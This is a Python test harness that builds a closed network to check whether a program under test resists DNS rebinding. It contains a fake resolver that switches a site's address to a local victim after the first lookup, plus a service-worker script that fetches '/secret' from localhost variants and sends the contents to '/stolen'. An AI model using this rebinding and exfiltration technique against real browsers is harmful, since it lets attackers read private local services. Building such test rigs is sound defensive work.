"""A site whose name means another machine the second time that it is resolved, in a network of its own.

Called with the program to run and its arguments; the address 93.184.216.34 and this machine's resolver are set up by
whoever calls. Prints what the program printed, and who was asked, as JSON.
"""

import collections
import http.server
import json
import socket
import subprocess
import sys
import threading

PUBLIC, LOCAL = "93.184.216.34", "127.0.0.2"
PAGE = """<!doctype html><title>Site</title><a href="/next">next</a><script src="/app.js"></script>
<script>navigator.serviceWorker.register("/sw.js")</script>"""
WORKER = """
importScripts("/lib.js");
const tried = [
  "/secret",
  "http://app.rebind.test:8080/secret",
  "http://other.rebind.test/secret",
  "http://127.0.0.2/secret",
  "http://[::ffff:127.0.0.2]/secret",
  "http://localhost/secret",
  "/leads-away",
];
oninstall = (event) => event.waitUntil(Promise.all(tried.map((url) =>
  fetch(url).then((answer) => answer.text()).then((text) => fetch("/stolen?" + text), () => {}))));
onfetch = () => {};
"""

asked = collections.Counter()
names = collections.Counter()


class Site(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        asked[f"site {self.path}"] += 1
        kinds = {"/sw.js": ("text/javascript", WORKER), "/lib.js": ("text/javascript", ""), "/app.js": ("text/javascript", "")}
        kind, body = kinds.get(self.path, ("text/html", PAGE))
        self.send_response(302 if self.path == "/leads-away" else 200)
        if self.path == "/leads-away":
            self.send_header("Location", "http://other.rebind.test/secret")
        self.send_header("Content-Type", kind)
        self.send_header("Cache-Control", "no-cache")
        # Each request makes a connection, and each connection looks for the address anew.
        self.send_header("Connection", "close")
        self.end_headers()
        self.wfile.write(body.encode())

    def log_message(self, *_):
        pass


class Victim(Site):
    def do_GET(self):
        asked[f"victim {self.headers['Host']}{self.path}"] += 1
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()
        self.wfile.write(b"secret")


def resolve(server):
    """Answers the first question for the site's name with its address, and every later one with the victim's."""
    while True:
        question, sender = server.recvfrom(512)
        at, labels = 12, []
        while question[at]:
            labels.append(question[at + 1 : at + 1 + question[at]].decode())
            at += question[at] + 1
        name, kind = ".".join(labels), int.from_bytes(question[at + 1 : at + 3], "big")
        body = question[12 : at + 5]
        answer = b""
        if kind == 1 and name.endswith("rebind.test"):
            names[name] += 1
            is_first = name == "app.rebind.test" and names[name] == 1
            address = socket.inet_aton(PUBLIC if is_first else LOCAL)
            answer = b"\xc0\x0c\x00\x01\x00\x01\x00\x00\x00\x00\x00\x04" + address
        head = question[:2] + b"\x81\x80\x00\x01" + (b"\x00\x01" if answer else b"\x00\x00") + b"\x00\x00\x00\x00"
        server.sendto(head + body + answer, sender)


dns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
dns.bind(("127.0.0.1", 53))
threading.Thread(target=resolve, args=(dns,), daemon=True).start()
for address, handler in [
    ((PUBLIC, 80), Site),
    ((PUBLIC, 8080), Victim),
    ((LOCAL, 80), Victim),
    (("127.0.0.1", 80), Victim),
    (("127.0.0.1", 8080), Victim),
]:
    server = http.server.ThreadingHTTPServer(address, handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()

done = subprocess.run(sys.argv[1:], capture_output=True, text=True, timeout=80)
print(json.dumps({"code": done.returncode, "stdout": done.stdout, "stderr": done.stderr, "asked": asked, "names": names}))
